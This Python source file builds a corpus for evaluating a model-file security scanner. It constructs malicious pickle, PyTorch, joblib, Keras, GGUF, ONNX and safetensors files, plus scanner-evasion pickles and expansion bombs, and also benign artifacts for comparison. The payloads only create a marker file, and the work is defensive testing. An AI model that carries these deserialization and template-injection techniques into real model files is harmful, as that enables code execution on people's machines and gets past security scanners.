"""Corpus generator for the model-scan evaluation: malicious variants and benign artifacts.

Malicious payloads are harmless (they would only create an empty marker file under
the temp folder) and are never loaded here: every malicious file is built from raw
opcodes or by editing bytes. Benign artifacts are saved by the real libraries.

    python evals/model_scan/corpus.py OUT_DIR
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MARKER = f"{tempfile.gettempdir()}/bastion-eval-marker"
CODE = f"open({MARKER!r}, 'w').close()"
SHELL = f"touch {MARKER}"


# ---------------------------------------------------------------------- opcode helpers
def u(s: str) -> bytes:
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def glob(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod: str, name: str) -> bytes:
    return u(mod) + u(name) + b"\x93"


def call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + b"\x85R"


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def exec_pickle() -> bytes:
    return p2(call1(glob("builtins", "exec"), u(CODE)))


# ---------------------------------------------------------------------- malicious variants
def _torch_zip(pkl: bytes, folder: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{folder}/data.pkl", pkl)
        z.writestr(f"{folder}/byteorder", b"little")
        for k, v in (extra or {}).items():
            z.writestr(f"{folder}/{k}", v)
        z.writestr(f"{folder}/version", b"3\n")
    return buf.getvalue()


def _patch_local_name(blob: bytes, old: bytes, new: bytes) -> bytes:
    i = blob.index(b"PK\x03\x04" + blob[blob.index(b"PK\x03\x04") + 4 : blob.index(b"PK\x03\x04") + 26])
    j = blob.index(old, i)
    assert len(old) == len(new)
    return blob[:j] + new + blob[j + len(old) :]


def _evil_npy() -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + exec_pickle()


def _keras_zip(config: dict[str, object]) -> bytes:
    import h5py

    buf = io.BytesIO()
    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("layers")
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights.getvalue())
    return buf.getvalue()


def _keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


_DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}, "registered_name": None}


def _lambda_layer() -> dict[str, object]:
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps(compile(CODE, "<lambda>", "exec"))).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}},
        },
        "registered_name": None,
    }


def _h5_with_config(config: dict[str, object]) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.create_group("model_weights")
    return buf.getvalue()


def _gguf(template: str | None) -> bytes:
    import gguf

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        w = gguf.GGUFWriter(str(path), "llama")
        w.add_block_count(1)
        if template is not None:
            w.add_chat_template(template)
        import numpy as np

        w.add_tensor("tok_embd.weight", np.zeros((4, 8), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        return path.read_bytes()


_SSTI = (
    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"
)
_SSTI_ATTR = "{{ ''|attr('__class__')|attr('__mro__') }}{% for m in messages %}{{ m.content }}{% endfor %}"


def _safetensors(header: dict[str, object], data: bytes) -> bytes:
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data


def _onnx_external_traversal() -> bytes:
    import onnx
    from onnx import TensorProto, helper

    t = TensorProto()
    t.name = "W"
    t.data_type = TensorProto.FLOAT
    t.dims.extend([2])
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", "../../../../etc/passwd"
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    g = helper.make_graph([helper.make_node("Add", ["x", "W"], ["y"])], "g", [x], [y], [t])
    return helper.make_model(g).SerializeToString() if onnx else b""


def _onnx_custom() -> bytes:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    node = helper.make_node("RunShell", ["x"], ["y"], domain="com.evil.ops")
    g = helper.make_graph([node], "g", [x], [y])
    return helper.make_model(
        g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.evil.ops", 1)]
    ).SerializeToString()


def _pb(field: int, payload: bytes) -> bytes:
    def varint(n: int) -> bytes:
        out = b""
        while True:
            b = n & 0x7F
            n >>= 7
            if n:
                out += bytes([b | 0x80])
            else:
                return out + bytes([b])

    return varint(field << 3 | 2) + varint(len(payload)) + payload


def _savedmodel(op: str) -> bytes:
    node = _pb(1, b"exfil") + _pb(2, op.encode())
    graph = _pb(1, node)
    meta = _pb(2, graph)
    return b"\x08\x01" + _pb(2, meta)


def _joblib_evil(compress: object) -> bytes:
    import joblib

    class Trojan:
        def __reduce__(self) -> tuple[object, ...]:
            return (exec, (CODE,))

    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "m.joblib"
        import numpy as np

        joblib.dump({"coef": np.arange(8.0), "hook": Trojan()}, p, compress=compress)
        return p.read_bytes()


def _seven_zip(name: str, content: bytes) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(content, name)
    return buf.getvalue()


def _tar_gz(name: str, content: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        t.addfile(info, io.BytesIO(content))
    return buf.getvalue()


def _legacy_torch_evil() -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + proto + sysinfo + exec_pickle() + pickle.dumps([], protocol=2)


def _crc_tampered() -> bytes:
    blob = bytearray(_torch_zip(exec_pickle()))
    # flip the CRC in both headers so the headers agree but the data does not
    i = blob.index(b"PK\x03\x04")
    blob[i + 14] ^= 0xFF
    j = blob.index(b"PK\x01\x02")
    blob[j + 16] ^= 0xFF
    return bytes(blob)


def _flag_tampered() -> bytes:
    blob = bytearray(_torch_zip(exec_pickle()))
    i = blob.index(b"PK\x03\x04")
    blob[i + 6] |= 0x01
    j = blob.index(b"PK\x01\x02")
    blob[j + 8] |= 0x01
    return bytes(blob)


def _corrupt_before() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/aaa_corrupt", b"x" * 4096)
        z.writestr("archive/data.pkl", exec_pickle())
        z.writestr("archive/version", b"3\n")
    blob = bytearray(buf.getvalue())
    i = blob.index(b"PK\x03\x04") + 30 + len("archive/aaa_corrupt")
    blob[i : i + 4] = b"\xff\xff\xff\xff"  # corrupt the deflate stream of the first member
    return bytes(blob)


def _zip_in_zip() -> bytes:
    inner = _torch_zip(exec_pickle())
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("release/model.bin", inner)
    return buf.getvalue()


MALICIOUS: dict[str, Callable[[], bytes]] = {
    "m01_proto0_os_system.pkl": lambda: b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
    "m02_proto2_builtins_exec.pkl": exec_pickle,
    "m03_proto4_stack_global_subprocess.pkl": lambda: p4(
        sglob("subprocess", "Popen") + u("sh") + u("-c") + u(SHELL) + b"\x87\x85R"
    ),
    "m04_memo_indirection.pkl": lambda: p4(
        u("os") + b"\x94" + u("system") + b"\x94" + b"0" + b"0" + b"h\x00h\x01\x93" + u(SHELL) + b"\x85R"
    ),
    "m05_getattr_import_module.pkl": lambda: p2(
        glob("builtins", "getattr")
        + call1(glob("importlib", "import_module"), u("os"))
        + u("system")
        + b"\x86R"
        + u(SHELL)
        + b"\x85R"
    ),
    "m06_dunder_import_getattr.pkl": lambda: p2(
        glob("builtins", "getattr")
        + call1(glob("builtins", "__import__"), u("os"))
        + u("system")
        + b"\x86R"
        + u(SHELL)
        + b"\x85R"
    ),
    "m07_pkgutil_resolve_name.pkl": lambda: p2(
        call1(glob("pkgutil", "resolve_name"), u("os:system")) + u(SHELL) + b"\x85R"
    ),
    "m08_nested_pickle_loads.pkl": lambda: p2(
        call1(glob("pickle", "loads"), b"C" + bytes([len(exec_pickle())]) + exec_pickle())
    ),
    "m09_broken_stream_after_payload.pkl": lambda: b"\x80\x02" + call1(glob("builtins", "exec"), u(CODE)) + b"\xff\xfe",
    "m10_inst_opcode.pkl": lambda: b"(V" + SHELL.encode() + b"\nios\nsystem\n.",
    "m11_obj_opcode.pkl": lambda: p2(b"(" + glob("os", "system") + u(SHELL) + b"o"),
    "m12_asyncio_submodule.pkl": lambda: p4(sglob("asyncio.unix_events", "_UnixSelectorEventLoop") + b")R"),
    "m13_numpy_runstring.pkl": lambda: p2(glob("numpy.testing._private.utils", "runstring") + u(CODE) + b"}\x86R"),
    "m14_py2_builtin_eval.pkl": lambda: b"c__builtin__\neval\n(V1+1\ntR.",
    "m15_attrgetter_chain.pkl": lambda: p2(
        call1(glob("operator", "attrgetter"), u("system"))
        + call1(glob("importlib", "import_module"), u("os"))
        + b"\x85R"
        + u(SHELL)
        + b"\x85R"
    ),
    "m16_unknown_module_class.pkl": lambda: p2(glob("backdoor_pkg.hooks", "Installer") + b")R"),
    "m17_ext_opcode.pkl": lambda: p2(b"\x82\x07)R"),
    "m18_global_mutation.pkl": lambda: p2(glob("collections", "OrderedDict") + b"}" + u("__init__") + u("x") + b"sb"),
    "m19_torch_zip.pt": lambda: _torch_zip(exec_pickle()),
    "m20_torch_zip_renamed_folder.bin": lambda: _torch_zip(exec_pickle(), folder="totally_weights"),
    "m21_torch_zip_no_extension": lambda: _torch_zip(exec_pickle()),
    "m22_torch_zip_bad_crc.pt": _crc_tampered,
    "m23_torch_zip_local_name_mismatch.pt": lambda: _patch_local_name(
        _torch_zip(exec_pickle()), b"archive/data.pkl", b"archive/data.pkX"
    ),
    "m24_torch_zip_encryption_flag.pt": _flag_tampered,
    "m25_torch_zip_corrupt_entry_before.pt": _corrupt_before,
    "m26_legacy_torch.pt": _legacy_torch_evil,
    "m27_joblib_plain.joblib": lambda: _joblib_evil(0),
    "m28_joblib_zlib.joblib": lambda: _joblib_evil(("zlib", 3)),
    "m29_joblib_lz4.joblib": lambda: _joblib_evil(("lz4", 3)),
    "m30_joblib_xz.joblib": lambda: _joblib_evil(("xz", 3)),
    "m31_npy_object_array.npy": _evil_npy,
    "m32_npz_object_array.npz": lambda: _zip_of({"arr_0.npy": _evil_npy()}),
    "m33_7z_wrapped.7z": lambda: _seven_zip("model.pkl", exec_pickle()),
    "m34_tar_gz_wrapped.tar.gz": lambda: _tar_gz("model/pytorch_model.bin", _torch_zip(exec_pickle())),
    "m35_zip_in_zip.zip": _zip_in_zip,
    "m36_keras_lambda.keras": lambda: _keras_zip(_keras_config([_DENSE, _lambda_layer()])),
    "m37_keras_foreign_module.keras": lambda: _keras_zip(
        _keras_config([_DENSE, {"module": "os", "class_name": "system", "config": {}, "registered_name": "system"}])
    ),
    "m38_h5_lambda.h5": lambda: _h5_with_config({"class_name": "Sequential", "config": {"layers": [_lambda_layer()]}}),
    "m39_onnx_external_traversal.onnx": _onnx_external_traversal,
    "m40_onnx_custom_domain.onnx": _onnx_custom,
    "m41_gguf_ssti_globals.gguf": lambda: _gguf(_SSTI),
    "m42_gguf_ssti_attr_filter.gguf": lambda: _gguf(_SSTI_ATTR),
    "m43_safetensors_offset_past_end.safetensors": lambda: _safetensors(
        {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 1024]}}, b"\0" * 16
    ),
    "m44_safetensors_overlap.safetensors": lambda: _safetensors(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        },
        b"\0" * 24,
    ),
    "m45_savedmodel_writefile.pb": lambda: _savedmodel("WriteFile"),
    "m46_savedmodel_pyfunc.pb": lambda: _savedmodel("PyFunc"),
    "m47_gzip_pickle.pkl.gz": lambda: __import__("gzip").compress(exec_pickle()),
    "m48_pickle_bin_extension.bin": exec_pickle,
    "m49_second_pickle_in_stream.pkl": lambda: pickle.dumps({"ok": 1}, protocol=2) + exec_pickle(),
    "m50_zlib_torch_member.pt": lambda: _deflated_torch(exec_pickle()),
}


def _zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def _deflated_torch(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


# ---------------------------------------------------------------------- adversarial pickle techniques
# Each sample is labelled with the technique it exercises and is *verified*: `verify` loads it
# with the real `pickle.load` in a throw-away subprocess whose working directory is a fresh
# temp folder, and checks that the payload had its effect there (it only creates a file named
# like ADV_MARKER in that folder, or, for expansion bombs, never finishes). Only the eval does
# this; the scanner never loads anything.
ADV_MARKER = "bastion-eval-marker"
_CWD_MODULE = "sklearn_extra"  # what a first-stage payload writes into the working directory


def _path(name: str) -> bytes:
    return call1(glob("pathlib", "Path"), u(name))


def _getattr(obj: bytes, attr: str) -> bytes:
    return glob("builtins", "getattr") + obj + u(attr) + b"\x86R"


def _memo_desync() -> bytes:
    """Past 1,000,000 memo entries, 'os'/'system' sit where a miscounting analyser sees benign names."""
    fillers = 1_000_001
    body = b"N" + b"\x94" * fillers + b"0"
    for s in ("os", "collections", "system", "OrderedDict"):
        body += u(s) + b"\x94"
    body += b"0000" + b"j" + struct.pack("<I", fillers) + b"j" + struct.pack("<I", fillers + 2) + b"\x93"
    return p4(body + u(f"touch {ADV_MARKER}") + b"\x85R")


def _torch_dispatch() -> bytes:
    """torch.nn.modules.conv.F is torch.nn.functional; its dispatch hook calls any callable it is given."""
    hook = _getattr(glob("torch.nn.modules.conv", "F"), "handle_torch_function")
    touch = _getattr(glob("pathlib", "Path"), "touch")
    param = glob("torch", "Tensor") + b")R"  # a plain tensor: its __torch_function__ runs func(*args)
    return p2(hook + b"(" + touch + param + b"\x85" + _path(ADV_MARKER) + b"tR")


def _bomb_frozenset() -> bytes:
    return p4(b"(N" + b"2\x86" * 64 + b"\x91")


def _bomb_dict_key() -> bytes:
    # nested tuples shared through the memo, then used as a dict key: the loader hashes 2**64 leaves
    body = b"Nq\x000"
    for level in range(1, 65):
        body += b"h" + bytes([level - 1]) + b"h" + bytes([level - 1]) + b"\x86q" + bytes([level]) + b"0"
    return p2(b"}" + body + b"h\x40N" + b"s")


ADVERSARIAL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a01_reexported_gzipfile.pkl": (
        "reexported-class",
        lambda: p2(glob("sklearn.datasets._rcv1", "GzipFile") + u(ADV_MARKER) + u("wb") + b"\x86R"),
    ),
    "a02_reexported_tempfile.pkl": (
        "reexported-class",
        lambda: p2(
            glob("sklearn.datasets._base", "NamedTemporaryFile")
            + b"("
            + u("wb")
            + b"J\xff\xff\xff\xffNN"
            + u("")
            + u(ADV_MARKER)
            + u(".")
            + b"\x89tR"
        ),
    ),
    "a03_path_write_text_getattr.pkl": (
        "allowed-class-method",
        lambda: p2(_getattr(glob("pathlib", "Path"), "write_text") + _path(ADV_MARKER) + u("x") + b"\x86R"),
    ),
    "a04_path_touch_dotted_name.pkl": (
        "allowed-class-method",
        lambda: p4(sglob("pathlib", "Path.touch") + _path(ADV_MARKER) + b"\x85R"),
    ),
    "a05_getattr_result_reused_from_memo.pkl": (
        "getattr-reuse",
        lambda: p2(
            _getattr(glob("pathlib", "PosixPath"), "write_bytes")
            + b"q\x00"
            + b"0"
            + b"h\x00"
            + _path(ADV_MARKER)
            + b"C\x01x\x86R"
        ),
    ),
    "a06_torch_function_dispatch.pkl": ("module-alias-dispatch", _torch_dispatch),
    "a07_cwd_module_import.pkl": ("cwd-module", lambda: p2(glob(_CWD_MODULE, "Backdoor") + b")R")),
    "a08_memo_desync_1m.pkl": ("memo-desync", _memo_desync),
    "a09_bomb_dup_frozenset.pkl": ("expansion-bomb", _bomb_frozenset),
    "a10_bomb_memo_dict_key.pkl": ("expansion-bomb", _bomb_dict_key),
}

_LOADER = "import pickle, sys\ntry:\n    pickle.load(open(sys.argv[1], 'rb'))\nexcept Exception:\n    pass\n"


def _limits() -> None:  # runs in the child before exec: bounded CPU time and file sizes
    import resource

    resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
    resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))


def verify(sample: Path, technique: str, timeout: float = 8.0) -> bool:
    """Load `sample` for real in a sandboxed subprocess and report whether its payload took effect.

    The child runs in a fresh temp folder (also its HOME and TMPDIR) with a minimal environment
    and CPU/file-size limits; the payloads only create a file named like ADV_MARKER there. An
    expansion bomb counts as effective when the load does not finish within `timeout`.
    """
    import os
    import shutil
    import subprocess

    with tempfile.TemporaryDirectory(prefix="bastion-eval-sandbox-") as tmp:
        box = Path(tmp)
        shutil.copy(sample, box / "sample.pkl")
        if technique == "cwd-module":  # what the first stage of the attack leaves behind
            (box / f"{_CWD_MODULE}.py").write_text(f"open({ADV_MARKER!r}, 'w').close()\nclass Backdoor:\n    pass\n")
        env = {"PATH": "/usr/bin:/bin", "HOME": tmp, "TMPDIR": tmp, "PYTHONDONTWRITEBYTECODE": "1"}
        try:
            subprocess.run(
                [sys.executable, "-E", "-s", "-c", _LOADER, "sample.pkl"],
                cwd=tmp,
                env=env,
                timeout=timeout,
                capture_output=True,
                preexec_fn=_limits if os.name == "posix" else None,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return technique == "expansion-bomb"
        if technique == "expansion-bomb":
            return False
        return any(p.name.startswith(ADV_MARKER) for p in box.iterdir())


# ---------------------------------------------------------------------- benign artifacts
def _benign(out: Path) -> list[Path]:
    import enum
    from collections import Counter, OrderedDict
    from datetime import datetime, timedelta

    import joblib
    import numpy as np
    import torch
    from safetensors.numpy import save_file as np_save_st
    from safetensors.torch import save_file as torch_save_st
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    paths: list[Path] = []

    def add(name: str) -> Path:
        p = out / name
        paths.append(p)
        return p

    torch.manual_seed(0)
    mlp = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 2))
    conv = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.Flatten())
    torch.save(mlp.state_dict(), add("b01_torch_mlp_state_dict.pt"))
    torch.save(conv.state_dict(), add("b02_torch_conv_bn_state_dict.pth"))
    torch.save(mlp, add("b03_torch_full_module.pt"))
    torch.save(mlp.state_dict(), add("b04_torch_legacy_format.pt"), _use_new_zipfile_serialization=False)
    torch.jit.script(mlp).save(str(add("b05_torchscript.pt")))
    opt = torch.optim.Adam(mlp.parameters())
    mlp(torch.randn(3, 8)).sum().backward()
    opt.step()
    torch.save({"model": mlp.state_dict(), "optim": opt.state_dict(), "epoch": 3}, add("b06_torch_checkpoint.ckpt"))
    torch.save(torch.arange(10, dtype=torch.float16), add("b07_torch_tensor.bin"))
    torch.save({"emb": torch.randn(5, 3).to(torch.bfloat16), "idx": torch.tensor([1, 2])}, add("b08_torch_mixed.pt"))

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    y = (X[:, 0] > 0).astype(int)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    forest = RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y)
    ft = make_pipeline(FunctionTransformer(np.log1p), DecisionTreeClassifier(random_state=0)).fit(np.abs(X), y)
    joblib.dump(pipe, add("b09_sklearn_pipeline.joblib"))
    joblib.dump(forest, add("b10_sklearn_forest.joblib"))
    for i, c in enumerate(("zlib", "gzip", "bz2", "lzma", "xz", "lz4")):
        joblib.dump(forest, add(f"b{11 + i}_joblib_{c}.joblib"), compress=(c, 3))
    with open(add("b17_sklearn_pickle.pkl"), "wb") as fh:
        pickle.dump(pipe, fh, protocol=pickle.HIGHEST_PROTOCOL)
    joblib.dump(ft, add("b18_sklearn_function_transformer.joblib"))
    np.save(add("b19_numpy_float.npy"), rng.normal(size=(10, 10)))
    np.save(add("b20_numpy_structured.npy"), np.zeros(4, dtype=[("a", "<i4"), ("b", "<f8")]))
    np.savez(add("b21_numpy_archive.npz"), w=np.ones((3, 3)), b=np.arange(3))
    np.savez_compressed(add("b22_numpy_compressed.npz"), w=np.ones((30, 30)))
    torch_save_st({"w": torch.randn(4, 4), "b": torch.zeros(4)}, str(add("b23_torch.safetensors")))
    np_save_st(
        {"a": np.ones((2, 3), dtype=np.float32), "b": np.arange(4, dtype=np.int64)}, str(add("b24_numpy.safetensors"))
    )

    from onnx import TensorProto, helper, save_model

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    yv = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    w = helper.make_tensor("W", TensorProto.FLOAT, [2], [1.0, 2.0])
    g = helper.make_graph([helper.make_node("Add", ["x", "W"], ["y"])], "g", [x], [yv], [w])
    model = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)])
    save_model(model, str(add("b25_onnx.onnx")))
    big = helper.make_tensor("W", TensorProto.FLOAT, [4096], [0.5] * 4096)
    g2 = helper.make_graph([helper.make_node("Add", ["x", "W"], ["y"])], "g", [x], [yv], [big])
    ext_dir = out / "b26_onnx_external"
    ext_dir.mkdir(exist_ok=True)
    save_model(helper.make_model(g2), str(ext_dir / "model.onnx"), save_as_external_data=True, location="weights.bin")
    paths.append(ext_dir / "model.onnx")

    llama3 = (
        "{% set loop_messages = messages %}{% for message in loop_messages %}"
        "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' "
        "+ message['content'] | trim + '<|eot_id|>' %}"
        "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
    )
    chatml = (
        "{% for message in messages %}{{'<|im_start|>' + message.role + '\n' + message.content + '<|im_end|>' + '\n'}}"
        "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
    )
    add("b27_gguf_llama3_template.gguf").write_bytes(_gguf(llama3))
    add("b28_gguf_chatml_template.gguf").write_bytes(_gguf(chatml))
    add("b29_gguf_no_template.gguf").write_bytes(_gguf(None))
    add("b30_keras_v3.keras").write_bytes(_keras_zip(_keras_config([_DENSE])))
    add("b31_keras_legacy.h5").write_bytes(
        _h5_with_config({"class_name": "Sequential", "config": {"layers": [_DENSE]}})
    )
    try:
        import pandas as pd
    except ImportError:  # optional: the eval venv has it, the dev venv may not
        pd = None
    if pd is not None:
        df = pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "z"], "t": pd.date_range("2024-01-01", periods=3)})
        df.to_pickle(add("b32_pandas_dataframe.pkl"))

    class Color(enum.Enum):
        RED = 1

    with open(add("b33_plain_python.pkl"), "wb") as fh:
        pickle.dump(
            {
                "n": 1,
                "s": {1, 2},
                "od": OrderedDict(a=1),
                "c": Counter("aab"),
                "t": datetime(2024, 1, 1),
                "d": timedelta(1),
                "f": frozenset([1]),
                "b": b"\x00\x01",
                "ba": bytearray(b"x"),
            },
            fh,
            protocol=0,
        )
    with open(add("b34_numpy_random_state.pkl"), "wb") as fh:
        pickle.dump({"rs": np.random.RandomState(0), "gen": np.random.default_rng(1)}, fh, protocol=4)
    add("b35_7z_safetensors.7z").write_bytes(
        _seven_zip("model.safetensors", (out / "b23_torch.safetensors").read_bytes())
    )
    add("b36_tar_gz_state_dict.tar.gz").write_bytes(
        _tar_gz("model/pytorch_model.bin", (out / "b01_torch_mlp_state_dict.pt").read_bytes())
    )
    with open(add("b37_protocol5.pkl"), "wb") as fh:
        pickle.dump({"arr": np.arange(5), "l": list(range(100))}, fh, protocol=5)
    paths.extend(_benign_estimators(out))
    return paths


def _estimators() -> dict[str, Callable[[], object]]:
    """Fitted-estimator factories: one per estimator type a model registry commonly holds."""
    import argparse

    import numpy as np
    from scipy import stats
    from sklearn import (
        calibration,
        cluster,
        compose,
        decomposition,
        discriminant_analysis,
        ensemble,
        feature_extraction,
        feature_selection,
        gaussian_process,
        impute,
        isotonic,
        kernel_approximation,
        kernel_ridge,
        linear_model,
        metrics,
        mixture,
        model_selection,
        multiclass,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )

    rng = np.random.default_rng(0)
    X = rng.normal(size=(80, 4))
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    yr = X @ np.array([1.0, -2.0, 0.5, 0.0])
    Xp = np.abs(X)
    docs = ["the cat sat", "the dog ran", "a cat ran", "dogs and cats"] * 5
    lr = linear_model.LogisticRegression

    def clf(est: object) -> Callable[[], object]:
        return lambda: est.fit(X, y)  # type: ignore[attr-defined]

    def reg(est: object) -> Callable[[], object]:
        return lambda: est.fit(X, yr)  # type: ignore[attr-defined]

    def unsup(est: object, data: object = X) -> Callable[[], object]:
        return lambda: est.fit(data)  # type: ignore[attr-defined]

    return {
        "logistic_regression": clf(lr()),
        "linear_regression": reg(linear_model.LinearRegression()),
        "ridge": reg(linear_model.Ridge()),
        "lasso": reg(linear_model.Lasso(alpha=0.01)),
        "elastic_net": reg(linear_model.ElasticNet(alpha=0.01)),
        "sgd_classifier": clf(linear_model.SGDClassifier(random_state=0)),
        "perceptron": clf(linear_model.Perceptron()),
        "poisson_regressor": lambda: linear_model.PoissonRegressor().fit(X, np.abs(yr)),
        "linear_svc": clf(svm.LinearSVC()),
        "svc_probability": clf(svm.SVC(probability=True, random_state=0)),
        "svr": reg(svm.SVR()),
        "decision_tree": clf(tree.DecisionTreeClassifier(random_state=0)),
        "decision_tree_regressor": reg(tree.DecisionTreeRegressor(random_state=0)),
        "random_forest": clf(ensemble.RandomForestClassifier(n_estimators=3, random_state=0)),
        "random_forest_regressor": reg(ensemble.RandomForestRegressor(n_estimators=3, random_state=0)),
        "extra_trees": clf(ensemble.ExtraTreesClassifier(n_estimators=3, random_state=0)),
        "gradient_boosting": clf(ensemble.GradientBoostingClassifier(n_estimators=5)),
        "gradient_boosting_regressor": reg(ensemble.GradientBoostingRegressor(n_estimators=5)),
        "hist_gradient_boosting": clf(ensemble.HistGradientBoostingClassifier(max_iter=5)),
        "hist_gradient_boosting_regressor": reg(ensemble.HistGradientBoostingRegressor(max_iter=5)),
        "adaboost": clf(ensemble.AdaBoostClassifier(n_estimators=5)),
        "bagging": clf(ensemble.BaggingClassifier(n_estimators=3, random_state=0)),
        "voting": clf(ensemble.VotingClassifier([("lr", lr()), ("dt", tree.DecisionTreeClassifier())])),
        "stacking": clf(ensemble.StackingClassifier([("lr", lr()), ("nb", naive_bayes.GaussianNB())], cv=2)),
        "isolation_forest": unsup(ensemble.IsolationForest(n_estimators=5, random_state=0)),
        "knn_kd_tree": clf(neighbors.KNeighborsClassifier(algorithm="kd_tree")),
        "knn_ball_tree": clf(neighbors.KNeighborsClassifier(algorithm="ball_tree")),
        "knn_regressor": reg(neighbors.KNeighborsRegressor()),
        "nearest_neighbors": unsup(neighbors.NearestNeighbors()),
        "local_outlier_factor": unsup(neighbors.LocalOutlierFactor(novelty=True)),
        "gaussian_nb": clf(naive_bayes.GaussianNB()),
        "multinomial_nb": lambda: naive_bayes.MultinomialNB().fit(Xp, y),
        "lda": clf(discriminant_analysis.LinearDiscriminantAnalysis()),
        "qda": clf(discriminant_analysis.QuadraticDiscriminantAnalysis()),
        "mlp": clf(neural_network.MLPClassifier(hidden_layer_sizes=(4,), max_iter=50, random_state=0)),
        "kmeans": unsup(cluster.KMeans(n_clusters=2, n_init=2, random_state=0)),
        "minibatch_kmeans": unsup(cluster.MiniBatchKMeans(n_clusters=2, n_init=2, random_state=0)),
        "dbscan": unsup(cluster.DBSCAN()),
        "agglomerative": unsup(cluster.AgglomerativeClustering()),
        "gaussian_mixture": unsup(mixture.GaussianMixture(n_components=2, random_state=0)),
        "pca": unsup(decomposition.PCA(n_components=2)),
